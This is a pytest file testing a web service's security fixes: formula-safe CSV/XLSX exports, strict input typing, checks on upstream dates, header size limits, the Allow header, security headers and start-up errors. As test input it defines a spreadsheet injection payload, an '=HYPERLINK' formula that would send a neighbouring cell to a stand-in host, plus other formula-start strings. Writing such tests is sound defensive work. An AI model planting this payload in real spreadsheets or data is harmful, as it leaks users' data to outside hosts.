"""Issue #16, findings 1, 6 and 8 (security.md): formula-safe downloads, strict input, checked
upstream facts, header limits, a complete `Allow`, security headers, and start-up that explains
itself."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from tests.conftest import Factory
from tests.test_campaigns import World, _submitted, make_campaign
from tests.test_task_orders_support import act, create_order, fund, iso, minute, order, ready_merchant, wallet

# a reference that Excel would run as a link leaking the neighbouring cell, and names that
# would start formulas
HYPERLINK = '=HYPERLINK("http://x?x="&A1,"click me")'
FORMULA_NAMES = ["=1+2", "+1+2", "-1+2", "@SUM(1)"]


def _xlsx_cells(content: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]


def _assert_inert_xlsx(content: bytes, expected: list[str]) -> None:
    cells = _xlsx_cells(content)
    assert all(c.data_type != "f" for c in cells), [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    # XML reads a carriage return in text back as a line feed
    for value in (v.replace("\r", "\n") for v in expected):
        assert "'" + value in texts, (value, texts)
        assert value not in texts


def _assert_inert_csv(content: bytes, expected: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    for value in expected:
        assert "'" + value in cells, (value, cells)


async def test_top_up_exports_write_a_formula_reference_as_text(client, factory: Factory):
    merchant = await factory.user("merchant")
    await fund(client, merchant, 1000)
    references = [HYPERLINK, "+86 10 1234", "-5", "@cmd", "\tTAB", "\rCR"]
    for reference in references:
        r = await client.post(
            "/v1/wallet/top-ups",
            headers=merchant.headers,
            json={"amount_fen": 777, "method": "bank_transfer", "reference": reference},
        )
        assert r.status_code == 201, r.text
    op = await factory.operator()
    for user in (merchant, op):
        csv_answer = await client.get("/v1/wallet/top-ups/export", headers=user.headers, params={"format": "csv"})
        assert csv_answer.status_code == 200
        _assert_inert_csv(csv_answer.content, references)
        xlsx_answer = await client.get("/v1/wallet/top-ups/export", headers=user.headers, params={"format": "xlsx"})
        assert xlsx_answer.status_code == 200
        _assert_inert_xlsx(xlsx_answer.content, references)
        # numbers stay numbers
        assert 777 in [c.value for c in _xlsx_cells(xlsx_answer.content)]


async def test_stock_plan_exports_write_formula_nicknames_as_text(client, factory: Factory):
    merchant = await factory.user("merchant")
    creators = [await factory.user("creator", nickname=name) for name in FORMULA_NAMES]
    campaign = await make_campaign(client, factory, eligible=[c.id for c in creators])
    w = World(await factory.operator(), campaign, creators[0], [merchant])
    product = (
        await client.post("/v1/products", headers=merchant.headers, json={"title": HYPERLINK, "price_fen": 100, "inventory": 5})
    ).json()
    for creator in creators:
        await _submitted(client, w, creator, 2, product["id"])
    url = f"/v1/campaigns/{campaign['id']}/stock-plan/export"
    r = await client.get(url, headers=merchant.headers, params={"format": "csv"})
    assert r.status_code == 200
    _assert_inert_csv(r.content, [*FORMULA_NAMES, HYPERLINK])
    r = await client.get(url, headers=merchant.headers, params={"format": "xlsx"})
    assert r.status_code == 200
    _assert_inert_xlsx(r.content, [*FORMULA_NAMES, HYPERLINK])
    assert [c.value for c in _xlsx_cells(r.content)].count(2) == len(FORMULA_NAMES)


def test_the_shared_writers_neutralise_every_formula_start():
    from app.domain.exports import as_text, csv_bytes, xlsx_bytes

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert as_text(start + "1") == "'" + start + "1"
    assert as_text("plain") == "plain" and as_text("") == ""
    # a control character (dropped from XLSX) cannot hide a leading "="
    data = xlsx_bytes("s", ["h"], [["\x01=1+1"], [-5], [1.5]])
    cells = _xlsx_cells(data)
    assert [c.value for c in cells] == ["h", "'=1+1", -5, 1.5]
    assert all(c.data_type != "f" for c in cells)
    assert csv_bytes(["h"], [["=1"], [-5]]).decode("utf-8-sig").splitlines() == ["h", "'=1", "-5"]


# -- finding 6: strict input --------------------------------------------------------------------
def _refused(r, *loc) -> None:
    assert r.status_code == 422, r.text
    assert r.headers["content-type"] == "application/problem+json"
    assert r.json()["code"] == "validation_failed"
    assert any(e["loc"][: len(loc)] == list(loc) for e in r.json()["errors"]), r.json()["errors"]


@pytest.mark.parametrize("amount", ["100", True, 1.0, 100.5, None])
async def test_an_integer_field_takes_only_a_json_integer(client, factory: Factory, amount):
    merchant = await factory.user("merchant")
    r = await client.post("/v1/wallet/top-ups", headers=merchant.headers, json={"amount_fen": amount, "method": "online"})
    _refused(r, "body", "amount_fen")
    assert (await wallet(client, merchant))["total_fen"] == 0
    ok = await client.post("/v1/wallet/top-ups", headers=merchant.headers, json={"amount_fen": 100, "method": "online"})
    assert ok.status_code == 201, ok.text


@pytest.mark.parametrize("flag", [0, 1, "true", "false", "yes"])
async def test_a_boolean_field_takes_only_true_or_false(client, factory: Factory, flag):
    creator = await factory.user("creator")
    r = await client.patch("/v1/accounts/me", headers=creator.headers, json={"profile": {"accepting_orders": flag}})
    _refused(r, "body", "profile", "accepting_orders")
    ok = await client.patch("/v1/accounts/me", headers=creator.headers, json={"profile": {"accepting_orders": False}})
    assert ok.status_code == 200 and ok.json()["profile"]["accepting_orders"] is False


@pytest.mark.parametrize("value", [0, 1767225600, 1.5, True])
async def test_a_date_is_its_iso_text_never_a_number(client, factory: Factory, value):
    op = await factory.operator()
    r = await client.put("/v1/admin/holidays", headers=op.headers, json={"dates": [value]})
    _refused(r, "body", "dates")
    ok = await client.put("/v1/admin/holidays", headers=op.headers, json={"dates": ["2027-01-01"]})
    assert ok.status_code == 200 and ok.json()["dates"] == ["2027-01-01"]


@pytest.mark.parametrize("seconds", [False, True, "60", 60.0])
async def test_the_clock_does_not_move_for_a_non_integer(client, factory: Factory, seconds):
    op = await factory.operator()
    before = await factory.now()
    r = await client.post("/v1/admin/clock/advance", headers=op.headers, json={"seconds": seconds})
    _refused(r, "body", "seconds")
    assert await factory.now() - before < timedelta(seconds=1)


async def test_a_datetime_is_never_a_number(client, factory: Factory):
    platform = await factory.user("platform")
    creator = await factory.user("creator")
    body = {"external_id": "ls-number", "host_id": creator.id, "started_at": 0, "room_url": "https://live.example/r"}
    _refused(await client.post("/v1/ingest/live-sessions", headers=platform.headers, json=body), "body", "started_at")


# -- finding 6: facts from upstream are checked ----------------------------------------------
async def test_a_live_session_in_the_future_is_refused_and_moves_nothing(client, factory: Factory):
    merchant, product = await ready_merchant(client, factory)
    creator = await factory.user("creator")
    platform = await factory.user("platform")
    now = await factory.now()
    start = minute(now + timedelta(days=2))
    created = await create_order(client, merchant, creator, product, start, hours=1)
    assert (await act(client, creator, created["id"], "accept")).status_code == 200
    body = {"external_id": "ls-future", "host_id": creator.id, "started_at": iso(start), "room_url": "https://live.example/r"}
    r = await client.post("/v1/ingest/live-sessions", headers=platform.headers, json=body)
    _refused(r, "body", "started_at")
    # nothing moved: the order still waits, ending it later is not possible either
    assert (await order(client, merchant, created["id"]))["state"] == "waiting_live"
    ended = {**body, "ended_at": iso(start + timedelta(hours=1))}
    _refused(await client.post("/v1/ingest/live-sessions", headers=platform.headers, json=ended), "body", "started_at")
    assert (await order(client, merchant, created["id"]))["state"] == "waiting_live"
    # within the clock-skew allowance (5 minutes) a start is a fact
    await factory.advance_to(start - timedelta(minutes=4))
    r = await client.post("/v1/ingest/live-sessions", headers=platform.headers, json=body)
    assert r.status_code == 201, r.text
    assert (await order(client, merchant, created["id"]))["state"] == "live"


async def test_an_order_paid_in_the_future_is_refused_and_nothing_is_stored(client, factory: Factory):
    merchant, product = await ready_merchant(client, factory)
    platform = await factory.user("platform")
    now = await factory.now()

    def sale(external_id: str, paid_at) -> dict:
        return {
            "external_id": external_id,
            "shop_id": merchant.id,
            "product_id": product,
            "channel": "shop_window",
            "amount_fen": 100,
            "status": "paid",
            "paid_at": iso(paid_at),
        }

    orders = [sale("so-past", now - timedelta(hours=1)), sale("so-future", now + timedelta(days=1))]
    r = await client.post("/v1/ingest/orders", headers=platform.headers, json={"orders": orders})
    _refused(r, "body", "orders", 1, "paid_at")
    # the valid one of the refused push was not stored: pushing it alone inserts it
    r = await client.post("/v1/ingest/orders", headers=platform.headers, json={"orders": orders[:1]})
    assert r.status_code == 200 and r.json()["inserted"] == 1, r.text
    r = await client.post(
        "/v1/ingest/orders", headers=platform.headers, json={"orders": [sale("so-soon", now + timedelta(minutes=4))]}
    )
    assert r.status_code == 200 and r.json()["inserted"] == 1, r.text


# -- finding 6: header limits and a complete Allow --------------------------------------------
async def test_headers_over_the_limits_are_431(client, factory: Factory):
    merchant = await factory.user("merchant")
    # one header over 8 KiB
    r = await client.get("/v1/accounts/me", headers={**merchant.headers, "X-Big": "x" * (8 * 1024)})
    assert r.status_code == 431 and r.headers["content-type"] == "application/problem+json"
    assert r.json()["code"] == "headers_too_large" and r.json()["status"] == 431
    # a megabyte in one header
    r = await client.get("/healthz", headers={"X-Huge": "y" * 1_000_000})
    assert r.status_code == 431 and r.json()["code"] == "headers_too_large"
    # many headers under 8 KiB each, over 64 KiB in all
    many = {f"X-Part-{i}": "z" * 7000 for i in range(10)}
    r = await client.get("/healthz", headers=many)
    assert r.status_code == 431 and r.json()["code"] == "headers_too_large"
    # under the limits: answered
    r = await client.get("/v1/accounts/me", headers={**merchant.headers, "X-Fine": "x" * 7000})
    assert r.status_code == 200


async def test_a_405_allows_every_method_of_the_path(client, factory: Factory):
    merchant = await factory.user("merchant")
    r = await client.delete("/v1/accounts/me", headers=merchant.headers)
    assert r.status_code == 405 and r.headers["content-type"] == "application/problem+json"
    allowed = {m.strip() for m in r.headers["allow"].split(",")}
    assert {"GET", "PATCH"} <= allowed and "DELETE" not in allowed, allowed
    # each method it names is answered (not 405)
    for method in allowed - {"HEAD"}:
        answer = await client.request(method, "/v1/accounts/me", headers=merchant.headers, json={})
        assert answer.status_code != 405, (method, answer.text)
    r = await client.put("/v1/products/some-id", headers=merchant.headers, json={})
    assert r.status_code == 405 and {"GET", "PATCH"} <= {m.strip() for m in r.headers["allow"].split(",")}


# -- finding 8: answers that are not kept -------------------------------------------------------
async def test_security_headers(client, factory: Factory):
    merchant = await factory.user("merchant")
    r = await client.get("/v1/accounts/me", headers=merchant.headers)
    assert r.status_code == 200
    assert r.headers["cache-control"] == "no-store" and r.headers["x-content-type-options"] == "nosniff"
    # refused credentials and errors of an authenticated request are not kept either
    r = await client.get("/v1/accounts/me", headers={"Authorization": "Bearer nonsense"})
    assert r.status_code == 401 and r.headers["cache-control"] == "no-store"
    r = await client.post("/v1/auth/token", data={"username": "nobody", "password": "wrong-password"})
    assert r.headers["cache-control"] == "no-store"
    # a signed link (used with no bearer token) is a credential too
    machines = (await client.get("/v1/state-machines", headers=merchant.headers)).json()
    items = machines["items"] if isinstance(machines, dict) else machines
    r = await client.get(items[0]["diagram_svg_url"])
    assert r.status_code == 200 and r.headers["cache-control"] == "no-store"
    r = await client.get("/healthz")
    assert r.headers["x-content-type-options"] == "nosniff"
    for page in ("/docs", "/redoc"):
        r = await client.get(page)
        assert r.status_code == 200
        csp = r.headers["content-security-policy"]
        assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "http" not in csp
        assert r.headers["x-frame-options"] == "DENY" and r.headers["x-content-type-options"] == "nosniff"
        # every script of the page is the service's own or allowed by its hash (no 'unsafe-inline')
        script_src = next(d for d in csp.split(";") if d.strip().startswith("script-src"))
        assert "unsafe" not in script_src
    assert "sha256-" in r.headers["content-security-policy"] or "<script>" not in r.text
    docs = await client.get("/docs")
    assert "sha256-" in docs.headers["content-security-policy"]
    for src in ("/static-offline-docs/swagger-ui-bundle.js", "/static-offline-docs/redoc.standalone.js"):
        assert src in docs.text + (await client.get("/redoc")).text
        assert (await client.get(src)).status_code == 200


# -- finding 8: start-up that explains itself, secrets per LC_ENV ------------------------------
def _start(tmp_path, *args: str, **env: str):
    import os
    import subprocess
    import sys
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    base = {k: v for k, v in os.environ.items() if not k.startswith("LC_")}
    full = {**base, "LC_DATABASE_URL": f"sqlite+aiosqlite:///{tmp_path / 'start.db'}", "LC_LOG_LEVEL": "WARNING", **env}
    return subprocess.run([sys.executable, *args], cwd=root, env=full, capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize(
    ("env", "setting"),
    [
        (
            {"LC_BOOTSTRAP_OPERATOR_USERNAME": "op", "LC_BOOTSTRAP_OPERATOR_PASSWORD": "a-long-password"},
            "LC_BOOTSTRAP_OPERATOR_USERNAME",
        ),
        ({"LC_ENV": "production"}, "LC_SECRET_KEY"),
        ({"LC_ENV": "production", "LC_SECRET_KEY": "short-secret"}, "LC_SECRET_KEY"),
        ({"LC_DB_POOL_SIZE": "many"}, "LC_DB_POOL_SIZE"),
        ({"LC_DATABASE_URL": "postgresql+asyncpg://postgres@127.0.0.1:1/nothing"}, "LC_DATABASE_URL"),
    ],
)
def test_bad_configuration_is_one_line_and_a_non_zero_exit(tmp_path, env, setting):
    ran = _start(tmp_path, "-m", "app", "serve", "--port", "1", **env)
    assert ran.returncode != 0
    lines = ran.stderr.strip().splitlines()
    assert len(lines) == 1 and setting in lines[0] and "Traceback" not in ran.stderr, ran.stderr


def test_uvicorn_on_the_app_object_also_explains_itself(tmp_path):
    ran = _start(
        tmp_path,
        "-m",
        "uvicorn",
        "app.main:app",
        "--port",
        "1",
        LC_BOOTSTRAP_OPERATOR_USERNAME="op",
        LC_BOOTSTRAP_OPERATOR_PASSWORD="a-long-password",
    )
    assert ran.returncode != 0
    assert ran.stderr.strip().splitlines() == [
        "configuration error: LC_BOOTSTRAP_OPERATOR_USERNAME: String should have at least 3 characters"
    ]


def test_create_app_refuses_a_bootstrap_operator_that_breaks_the_account_rules(engine):
    from app.core.config import Settings
    from app.main import create_app
    from app.startup import ConfigError

    with pytest.raises(ConfigError, match="LC_BOOTSTRAP_OPERATOR_PASSWORD"):
        create_app(
            Settings(env="test", bootstrap_operator_username="operator", bootstrap_operator_password="short"), engine=engine
        )


def test_the_secret_per_environment(tmp_path):
    from pydantic import ValidationError

    from app.core.config import DEFAULT_SECRET, Settings

    # dev: the built-in secret; also under its long name
    assert Settings(env="dev").secret_key == DEFAULT_SECRET
    assert Settings(env="development").env == "dev"
    # test: a random secret of this process, the same for every Settings of it, unless one is given
    first, second = Settings(env="test"), Settings(env="test")
    assert first.secret_key == second.secret_key != DEFAULT_SECRET and len(first.secret_key) >= 32
    assert Settings(env="test", secret_key="given-" * 6).secret_key == "given-" * 6
    other = _start(tmp_path, "-c", "from app.core.config import Settings; print(Settings(env='test').secret_key)")
    assert other.returncode == 0 and other.stdout.strip() not in ("", first.secret_key)
    # the built-in secret is refused outside dev; production wants a strong one
    for env in ("test", "production"):
        with pytest.raises(ValidationError, match="LC_SECRET_KEY"):
            Settings(env=env, secret_key=DEFAULT_SECRET)
    for weak in ("", "short", "change-me-in-production-change-me-please"):
        with pytest.raises(ValidationError, match="LC_SECRET_KEY"):
            Settings(env="production", secret_key=weak)
    assert Settings(env="production", secret_key="k" * 32).secret_key == "k" * 32


async def test_a_signed_link_with_a_non_ascii_signature_is_403_not_500(client):
    # found by schemathesis: hmac.compare_digest refuses non-ASCII text
    r = await client.get("/v1/state-machines/task_order/diagram", params={"exp": "4", "r": "", "sig": "\u0080", "u": "x"})
    assert r.status_code == 403 and r.headers["content-type"] == "application/problem+json"
